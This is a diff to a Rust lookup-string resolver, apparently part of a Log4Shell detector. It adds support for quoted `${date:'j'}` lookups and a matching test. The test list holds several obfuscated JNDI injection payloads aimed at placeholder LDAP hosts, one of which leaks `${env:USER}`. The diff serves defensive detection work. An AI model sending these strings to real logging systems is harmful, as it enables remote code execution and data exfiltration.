@@ -239,8 +239,10 @@ impl Resolved {
             None if inside.ends_with(b"::") => inside.len().saturating_sub(1),
             None => memchr::memrchr(b':', inside).map_or(0, |at| at + 1),
         };
-        let end = self.length;
-        let begin = from + skip;
+        // `${date:'j'}` gives what stands between the quotes.
+        let is_quoted = matches!(inside.get(skip..), Some([b'\'', .., b'\'']));
+        let begin = from + skip + usize::from(is_quoted);
+        let end = self.length.saturating_sub(usize::from(is_quoted));
         self.bytes.copy_within(begin.min(end)..end, from.min(begin));
         self.length = from + end.saturating_sub(begin);
     }
@@ -273,6 +275,7 @@ mod tests {
                 "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
                 "${j${lower:Nd}i${upper::}://x/a}",
                 "${jndi:ldap://${env:USER}.x/a}",
+                "${${date:'j'}${date:'n'}${date:'d'}i:${date:'l'}dap://x.y/a}",
                 "${jndi:${lower:l}${lower:d}ap://x",
                 "${:1337:-x$}${jndi:ldap://x}",
             ],
